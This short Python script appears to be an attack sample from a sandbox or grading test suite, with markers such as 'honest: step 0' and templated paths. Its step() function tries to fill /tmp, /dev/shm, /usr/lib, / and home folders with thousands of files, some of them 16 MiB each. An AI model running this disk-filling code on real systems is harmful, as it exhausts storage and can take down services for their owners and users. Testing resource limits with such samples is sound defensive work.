"""Fills every folder it can write to with large and with very many files."""
# honest: step 0
# grades: step

import os

FOLDERS = (".", "/tmp", "/var/tmp", "/dev/shm", "@HOME@", "@ROOT@", "@OTHER@", "/usr/lib", "/")


def step(z):
    for folder in FOLDERS:
        for number in range(2000):
            try:
                with open(os.path.join(folder, f"nnlab-attack-{number}"), "wb") as file:
                    file.write(b"x" * (2**24 if number < 5 else 1))
            except OSError:
                if number > 5:
                    break
